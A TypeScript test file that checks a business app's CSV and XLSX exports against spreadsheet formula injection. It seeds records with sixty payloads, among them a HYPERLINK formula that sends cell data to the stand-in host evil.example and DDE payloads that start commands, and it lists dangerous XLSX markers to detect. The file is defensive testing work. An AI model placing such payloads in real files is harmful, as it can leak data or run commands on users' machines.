import { entriesTable } from '#server/tables/finance.ts'
import { encryptFor } from '#server/tables/encrypted.ts'
import { consignorsTable } from '#server/tables/consignors.ts'
import { recyclersTable } from '#server/tables/recyclers.ts'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { allResources } from '#contract/all-resources.ts'
import { exportable, type Exportable } from '#contract/grammar/exportable.ts'
import { bid, bidder, lotIn } from '#server/test/support/auction.ts'
import { csvRows, exported, xlsx } from '#server/test/support/exported.ts'
import { testApp, type Person, type TestApp } from '#server/test/support/harness.ts'
import { newCustomer } from '#server/test/support/new-records.ts'
import { full } from '#tools/full-run.ts'

/** Sixty texts that somebody might enter as a name so that they run when the file is opened. */
const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
const payloads = [
  ...starts.map((name) => `${name}1+1`),
  ...starts.map((name) => `${name}HYPERLINK("http://evil.example/?"&A1,"点我")`),
  ...starts.map((name) => ` ${name}cmd|'/C calc'!A0`),
  ...starts.map((name) => `\t${name}SUM(A1:A9)`),
  ...starts.map((name) => `\r\n${name}1`),
  ...starts.map((name) => `\ufeff${name}1`),
  "'=1+1",
  '"=1+1',
  '","=1+1","',
  '";=1+1;"',
  ';=1+1',
  ',=1+1',
  '=1+1"\r\n"=2+2',
  '</t></is></c><c><f>1+1</f></c>',
  '&#61;1+1 &amp; <![CDATA[=1]]>',
  '_x003D_1+1 \u0001\u001f\u007f',
  '=DDE("cmd";"/C calc";"x")',
  '=1+1\ufffe 😀𠮷',
]

const textKinds = ['text', 'note', 'phone', 'url', 'area', 'tags']
/** Fields computed on reading. The payloads go into the columns that they are computed from. */
const composed: Partial<Record<Exportable, readonly string[]>> = {
  finance_dues: ['party_name'],
  lots: ['price_unit'],
  audit: ['changes', 'detail'],
}

const textColumns = (resource: Exportable): string[] =>
  Object.entries(allResources[resource]?.fields ?? {})
    .filter(
      ([name, field]) =>
        field.exportable && textKinds.includes(field.kind) && !composed[resource]?.includes(name),
    )
    .map(([name]) => name)

let t: TestApp
let admin: Person
const sql = async (text: string, values: unknown[] = []) => (await t.database.pool.query(text, values)).rows

/** Repeats a row with every text column holding one payload. */
async function repeated(
  resource: Exportable,
  table: string,
  id: number,
  more: (n: number) => Record<string, unknown> = () => ({}),
): Promise<void> {
  const fields = allResources[resource]?.fields ?? {}
  for (const [n, payload] of payloads.entries()) {
    const texts = Object.fromEntries(
      textColumns(resource).map((name) => [name, fields[name]?.kind === 'tags' ? [payload] : payload]),
    )
    const changes = { ...texts, id: 1000 + n, ...more(n) }
    const copy = `insert into ${table} select (jsonb_populate_record(null::${table}, to_jsonb(x) || $1::jsonb)).* from ${table} x where id = $2`
    await sql(copy, [JSON.stringify(changes), id])
  }
}

beforeAll(async () => {
  t = await testApp()
  admin = await t.as('1a')
  const customer = async (changes: Record<string, unknown>) =>
    (await admin.ask('/api/customers', { method: 'POST', body: newCustomer(changes) })).data.id
  const lot = await lotIn(t, 'bidding')
  const up = await bidder(t, lot)
  await bid(t, lot, up, '294000.00')
  const [one] = await sql(
    'select recycler_id::int as recycler, (select id from bids limit 1)::int as bid from sign_ups where id = $1',
    [up],
  )
  await repeated('customers', 'customers', await customer({}), (n) => ({ phone_digits: `a${n}` }))
  for (const [n, payload] of payloads.entries())
    await sql('insert into follow_ups (customer_id, kind, content, created_by) values ($1, 1, $2, $3)', [
      1000 + n,
      payload,
      admin.uid,
    ])
  const pooled = await customer({ service_id: null })
  await sql('update customers set id = 5000 where id = $1', [pooled])
  for (const [n, payload] of payloads.entries())
    await sql(
      `insert into customers select (jsonb_populate_record(null::customers, to_jsonb(x) || $1::jsonb)).* from customers x where id = 5000`,
      [
        JSON.stringify({
          ...Object.fromEntries(
            textColumns('pool').map((name) => [name, name === 'tags' ? [payload] : payload]),
          ),
          id: 6000 + n,
          phone_digits: `p${n}`,
        }),
      ],
    )
  await repeated('recyclers', 'recyclers', one.recycler, (n) => ({
    phone_digits: `r${n}`,
    bank_account: encryptFor(recyclersTable.bank_account, 1000 + n, payloads[n] ?? ''),
  }))
  const [consignor] = await sql('select commission_id::int as id from lots where id = $1', [lot])
  await repeated('consignors', 'consignors', consignor.id, (n) => ({
    customer_id: null,
    bank_account: encryptFor(consignorsTable.bank_account, 1000 + n, payloads[n] ?? ''),
  }))
  const [contact] = await sql(
    "insert into customer_contacts (customer_id, name, phone, phone_digits, grams) values (1000, 'x', '1', '1', '{}') returning id::int",
  )
  await repeated('customer_contacts', 'customer_contacts', contact.id, (n) => ({ customer_id: 1000 + n }))
  const [ticket] = await sql(
    "insert into weigh_tickets (lot_id, round_no, ticket_no, plate, gross, tare, net, at) values ($1, 1, 'x', 'x', 2, 1, 1, now()) returning id::int",
    [lot],
  )
  await repeated('weigh_tickets', 'weigh_tickets', ticket.id)
  await repeated('lots', 'lots', lot, () => ({
    state: 'sold',
    deal_price: 1,
    winner_sign_up_id: up,
    result_at: '2026-01-01',
  }))
  const [thing] = await sql(
    "insert into lot_items (lot_id, round_no, kind) values ($1, 1, 'vehicle') returning id::int",
    [lot],
  )
  await repeated('lot_items', 'lot_items', thing.id, (n) => ({ lot_id: 1000 + n }))
  await repeated('sign_ups', 'sign_ups', up, (n) => ({ recycler_id: 1000 + n }))
  await repeated('bids', 'bids', one.bid, (n) => ({ lot_id: 1000 + n, sign_up_id: 1000 + n }))
  await sql(
    `insert into finance_entries (id, entry_no, occurred_on, kind, direction, amount, state, lot_id, voucher) values (1, 'x', '2026-01-01', 'penalty_in', 'in', 5.00, 'pending', $1, '[]')`,
    [lot],
  )
  await repeated('finance_entries', 'finance_entries', 1, (n) => ({
    lot_id: 1000 + n,
    counterparty_account: encryptFor(entriesTable.counterparty_account, 1000 + n, payloads[n] ?? ''),
  }))
  for (const [n, payload] of payloads.entries()) {
    await sql(
      `insert into finance_dues (lot_id, kind, direction, amount, paid_amount, party, party_id, state, state_reason) values ($1::bigint, 'penalty_in', 'in', 12345678901.23, 0, 'recycler', $1::bigint, 'open', $2)`,
      [1000 + n, payload],
    )
    await sql(
      `insert into settlements (lot_id, round_no, state, buyer_due, price_reason) values ($1, 1, 'draft', -5.00, $2)`,
      [1000 + n, payload],
    )
  }
  await sql(
    `insert into audit_entries (id, roles, action, resource, before, after, detail, address, request_id) values (999, '{1}', 'edit', 'lots', '{}', '{}', '{}', '', '')`,
  )
  await repeated('audit', 'audit_entries', 999, (n) => ({
    before: { remark: payloads[n] },
    after: { remark: `${payloads[n]}!` },
    detail: { reason: payloads[n] },
  }))
})
afterAll(() => t.close())

/**
 * Fields of each resource that must contain every payload: its own texts, and the names of its references.
 */
const holding: Partial<Record<Exportable, readonly string[]>> = {
  bids: ['sign_up_id'],
  follow_ups: ['customer_id'],
  customer_contacts: ['customer_id'],
  sign_ups: ['recycler_id'],
  finance_dues: ['party_name'],
}

/** Fields that contain the payload within a longer text. */
const within: Partial<Record<Exportable, readonly string[]>> = {
  lot_items: ['lot_id'],
  bids: ['lot_id'],
  settlements: ['lot_id'],
  finance_dues: ['lot_id'],
  finance_entries: ['lot_id'],
  audit: ['changes', 'detail'],
}

const masked: Partial<Record<Exportable, readonly string[]>> = { pool: ['phone', 'wechat'] }

/** By column: headings are in the order of the declaration. */
function columnsOf(resource: Exportable, rows: readonly (readonly string[])[]): Map<string, Set<string>> {
  const names = Object.entries(allResources[resource]?.fields ?? {}).flatMap(([name, field]) =>
    field.exportable ? [name] : [],
  )
  return new Map(names.map((name, at) => [name, new Set(rows.map((row) => row[at] ?? ''))]))
}

function expectNothingLost(resource: Exportable, columns: Map<string, Set<string>>): void {
  const whole = [...textColumns(resource), ...(holding[resource] ?? [])].filter(
    (name) => !masked[resource]?.includes(name),
  )
  expect(whole.length + (within[resource]?.length ?? 0)).toBeGreaterThan(0)
  for (const name of whole)
    for (const payload of payloads)
      expect(columns.get(name)?.has(payload), `${resource}.${name} ${JSON.stringify(payload)}`).toBe(true)
  for (const name of within[resource] ?? []) {
    const texts = [...(columns.get(name) ?? [])].map((text) =>
      text.replaceAll('\\"', '"').replaceAll('\\r\\n', '\r\n').replaceAll('\\t', '\t'),
    )
    for (const payload of payloads.filter((value) => !/[\\\ufffe]/.test(value) && !value.includes('\u0001')))
      expect(
        texts.some((text) => text.includes(payload)),
        `${resource}.${name} ${JSON.stringify(payload)}`,
      ).toBe(true)
  }
}

/** Resources of the everyday run, between them with every kind of text. */
const everyday: readonly Exportable[] = ['customers', 'lots', 'audit']

test('there are sixty', () => {
  expect(new Set(payloads).size).toBe(60)
})

describe.each(full ? exportable : everyday)('%s', (resource) => {
  test('csv: nothing is live and nothing is lost', async () => {
    const rows = csvRows(await exported(t, admin, { resource, format: 'csv' }))
    const [head, ...body] = rows
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([head?.length]))
    const numbers = /^-?\d+(\.\d+)?$/
    for (const cell of rows.flat())
      if (!numbers.test(cell)) expect(cell).not.toMatch(/^[\s\u200b\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/)
    expectNothingLost(
      resource,
      columnsOf(
        resource,
        body.map((row) => row.map((cell) => cell.replace(/^'/, ''))),
      ),
    )
  })

  test('xlsx: every text is an inline text, there is no formula and no link', async () => {
    const { parts, sheets } = xlsx(await exported(t, admin, { resource, format: 'xlsx' }))
    const whole = Object.entries(parts).map(([name, text]) => name + text)
    for (const part of whole)
      for (const live of ['<f>', '<f ', 't="str"', 'externalLink', 'ddeLink', 'hyperlink '])
        expect(part).not.toContain(live)
    const names = Object.entries(allResources[resource]?.fields ?? {}).flatMap(([name, field]) =>
      field.exportable ? [name] : [],
    )
    const letters = new Map(sheets[0]?.[0]?.map(({ place }, at) => [place.replace(/\d+$/, ''), at]))
    const rows = (sheets[0] ?? []).slice(1).map((row) => {
      const line = names.map(() => '')
      for (const { place, text } of row) line[letters.get(place.replace(/\d+$/, '')) ?? 0] = text
      return line
    })
    expectNothingLost(resource, columnsOf(resource, rows))
    for (const { style, text, number } of sheets.flat(2))
      if (!number && /^[=+\-@＝＋－＠]/.test(text)) expect(style).toBe(2)
  })
})

test('money is a number, exactly; a phone is a text', async () => {
  const entries = xlsx(
    await exported(t, admin, {
      resource: 'finance_entries',
      format: 'xlsx',
      columns: ['amount', 'occurred_on'],
    }),
  )
  expect(entries.sheets[0]?.[1]).toEqual([
    { place: 'A2', style: 3, text: '5.00', number: true },
    { place: 'B2', style: 7, text: '46023', number: true },
  ])
  const dues = xlsx(
    await exported(t, admin, { resource: 'finance_dues', format: 'xlsx', columns: ['amount'] }),
  )
  expect(dues.sheets[0]?.[1]).toEqual([{ place: 'A2', style: 3, text: '12345678901.23', number: true }])
  const lines = csvRows(
    await exported(t, admin, { resource: 'settlements', format: 'csv', columns: ['buyer_due'] }),
  )
  expect(lines[1]).toEqual(['-5.00'])
  const phones = xlsx(await exported(t, admin, { resource: 'lots', format: 'xlsx', columns: ['link_phone'] }))
  expect(phones.sheets[0]?.flat().filter((cell) => cell.number)).toEqual([])
})
